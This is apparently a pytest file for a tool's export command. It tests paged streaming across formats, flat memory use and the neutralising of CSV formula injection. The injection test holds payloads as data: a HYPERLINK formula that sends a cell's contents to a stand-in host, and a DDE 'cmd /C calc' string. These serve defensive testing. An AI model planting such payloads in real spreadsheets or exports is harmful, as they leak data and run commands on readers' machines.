"""`cardmill export`: streamed a page at a time, every format, every document name."""

from __future__ import annotations

import csv
import json
import tracemalloc
from pathlib import Path

import trio
from click.testing import CliRunner

from cardmill import CardDraft, Document, MemoryStorage, SQLiteStorage, Storage, UploadStatus
from cardmill._export import write_cards
from cardmill.cli import main

from .conftest import EXAMPLES
from .test_cli import cardmill, one_line_error

SMALL, LARGE = 10_000, 100_000


class Collect:
    """An async text sink that remembers each write."""

    def __init__(self) -> None:
        self.writes: list[str] = []

    async def write(self, data: str) -> int:
        await trio.lowlevel.checkpoint()
        self.writes.append(data)
        return len(data)

    @property
    def text(self) -> str:
        return "".join(self.writes)


def export(*args: str) -> str:
    result = CliRunner().invoke(main, ["export", *args])
    assert result.exit_code == 0, result.output
    return result.output


async def mixed_run(storage: Storage) -> str:
    """Five uploads: cards in three of them, none in a failed and a pending one."""
    run = await storage.create_run(Document(f"doc {i}.md", b"x") for i in range(5))
    uploads = await storage.list_uploads(run.id)
    for i, count in ((4, 3), (0, 2), (2, 1)):
        drafts = [CardDraft(f"T{i}.{n}", f"B{i}.{n}", ("x", "y"), f"Q{i}") for n in range(count)]
        await storage.complete_upload(uploads[i].id, drafts)
    await storage.fail_upload(uploads[1].id, "broken")
    return run.id


async def test_every_format_streams_what_the_whole_run_holds_at_any_page_size() -> None:
    storage = MemoryStorage()
    run = await storage.get_run(await mixed_run(storage))
    names = {u.id: u.name for u in await storage.list_uploads(run.id)}
    cards = await storage.list_cards(run.id)
    assert [u.status for u in await storage.list_uploads(run.id)].count(UploadStatus.PENDING) == 1
    for batch in (1, 2, 4, 6, 1000):
        jsonl = Collect()
        assert await write_cards(jsonl, "jsonl", storage, run, batch=batch) == 6
        records = [json.loads(line) for line in jsonl.text.splitlines()]
        assert [(r["upload_id"], r["ordinal"]) for r in records] == [
            (c.upload_id, c.ordinal) for c in cards
        ]
        assert [r["document"] for r in records] == [names[c.upload_id] for c in cards]
        assert [r["title"] for r in records] == [c.title for c in cards]
        # One write per page (plus the last), never the whole export at once.
        assert len(jsonl.writes) == 6 // batch + 1

        md = Collect()
        await write_cards(md, "md", storage, run, batch=batch)
        sections = [line for line in md.text.splitlines() if line.startswith("## ")]
        assert sections == ["## doc 0.md", "## doc 2.md", "## doc 4.md"]
        assert md.text.count("\n### ") == 6

        csv_out = Collect()
        await write_cards(csv_out, "csv", storage, run, batch=batch)
        rows = csv_out.text.split("\r\n")
        assert rows.pop() == ""
        assert rows[0] == "document,ordinal,title,body,tags,quote,upload_id"
        assert [r.split(",")[0] for r in rows[1:]] == [names[c.upload_id] for c in cards]


def populate(path: Path, cards: int, per_upload: int = 100) -> str:
    async def fill() -> str:
        async with SQLiteStorage.open(path) as storage:
            documents = (Document(f"doc{i:07d}.md", b"x") for i in range(cards // per_upload))
            run = await storage.create_run(documents)
            drafts = [
                CardDraft(f"Title {n}", "A body of some length. " * 10, ("tag", "other"), "Q")
                for n in range(per_upload)
            ]
            async for upload in storage.iter_uploads(run.id):
                await storage.complete_upload(upload.id, drafts)
            return run.id

    return trio.run(fill)


def peak_bytes_of_export(db: Path, run_id: str, out: Path) -> int:
    tracemalloc.start()
    try:
        export(run_id, "--db", str(db), "--format", "csv", "-o", str(out))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak


def test_export_memory_does_not_grow_with_the_run(tmp_path: Path) -> None:
    peaks = {}
    for cards in (SMALL, LARGE):
        db = tmp_path / f"{cards}.db"
        run_id = populate(db, cards)
        out = tmp_path / f"{cards}.csv"
        peaks[cards] = peak_bytes_of_export(db, run_id, out)
        with out.open(newline="") as written:
            assert sum(1 for _ in written) == cards + 1
    print(f"export peak traced memory: {peaks}")
    # Ten times the cards, the same memory: one page, not the run.
    assert peaks[LARGE] < 1.5 * peaks[SMALL], peaks


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
    db = tmp_path / "formulas.db"
    payloads = {
        "=": '=HYPERLINK("http://x.invalid/"&A1,"click")',
        "+": "+SUM(1,2)",
        "-": "-2+3+cmd|' /C calc'!A0",
        "@": "@SUM(1,2)",
        "\t": "\t=1+1",
        "\r": "\r=1+1",
    }

    async def fill() -> str:
        async with SQLiteStorage.open(db) as storage:
            names = [payloads[c] + ".md" for c in FORMULA_STARTS] + ["plain a=b.md"]
            run = await storage.create_run(Document(n, b"x") for n in names)
            uploads = await storage.list_uploads(run.id)
            for start, upload in zip([*FORMULA_STARTS, ""], uploads, strict=True):
                value = payloads.get(start, "a=b, 1+1\rand -1 inside")
                draft = CardDraft(value, value, (value, "tag"), value)
                await storage.complete_upload(upload.id, [draft])
            return run.id

    run_id = trio.run(fill)
    out = tmp_path / "cards.csv"
    export(run_id, "--db", str(db), "--format", "csv", "-o", str(out))
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(FORMULA_STARTS) + 1
    for start, row in zip(FORMULA_STARTS, rows[:-1], strict=True):
        value = payloads[start]
        expected = {
            "document": "'" + value + ".md",
            "title": "'" + value,
            "body": "'" + value,
            "tags": "'" + value + "; tag",
            "quote": "'" + value,
        }
        assert {k: row[k] for k in expected} == expected, repr(start)
    # Text that does not start a formula is left exactly as it was.
    plain = rows[-1]
    assert plain["document"] == "plain a=b.md"
    assert plain["title"] == plain["body"] == plain["quote"] == "a=b, 1+1\rand -1 inside"
    # The other formats carry the text as it was written.
    records = [json.loads(line) for line in export(run_id, "--db", str(db)).splitlines()]
    assert [r["title"] for r in records[:-1]] == [payloads[c] for c in FORMULA_STARTS]


async def test_an_output_file_that_cannot_be_written_is_named_in_one_line(
    env: dict[str, str], tmp_path: Path
) -> None:
    done = await cardmill("analyze", str(EXAMPLES), "--quiet", "--json", env=env)
    run_id = json.loads(done.stdout)["run"]["id"]
    for out, reason in (
        (tmp_path / "missing" / "cards.md", "No such file or directory"),
        (tmp_path / "cards.md" / "x", "Not a directory"),
    ):
        (tmp_path / "cards.md").touch()
        failed = await cardmill("export", run_id, "--format", "md", "-o", str(out), env=env)
        assert failed.returncode == 2
        assert one_line_error(failed.stderr) == f"cardmill: error: {out}: cannot write ({reason})"
        assert failed.stdout == b""
